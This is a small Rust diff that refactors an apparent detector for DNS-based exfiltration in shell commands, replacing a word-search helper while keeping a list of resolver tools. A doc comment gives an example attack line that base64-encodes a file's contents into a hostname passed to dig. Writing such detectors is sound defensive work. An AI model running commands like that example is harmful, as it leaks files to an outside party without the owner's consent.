@@ -2,7 +2,7 @@
 //!
 //! The line is in lower case.
 
-use super::command::find_word;
+use super::command::first_word;
 
 /// What asks a name server.
 const RESOLVERS: &[&str] = &["dig", "nslookup", "drill", "host", "resolve-dnsname"];
@@ -13,7 +13,7 @@ const MAX_PLACES: usize = 16;
 
 /// `dig $(cat x | base64).host.io`: data as the name of a host.
 pub(super) fn asked(line: &str) -> Option<usize> {
-    let at = RESOLVERS.iter().filter_map(|word| find_word(line, word)).min()?;
+    let at = first_word(line, RESOLVERS)?;
     let rest = line.get(at..)?;
     rest.match_indices("$(").take(MAX_PLACES).find_map(|(open, _)| {
         let inner = rest.get(open + 2..)?;
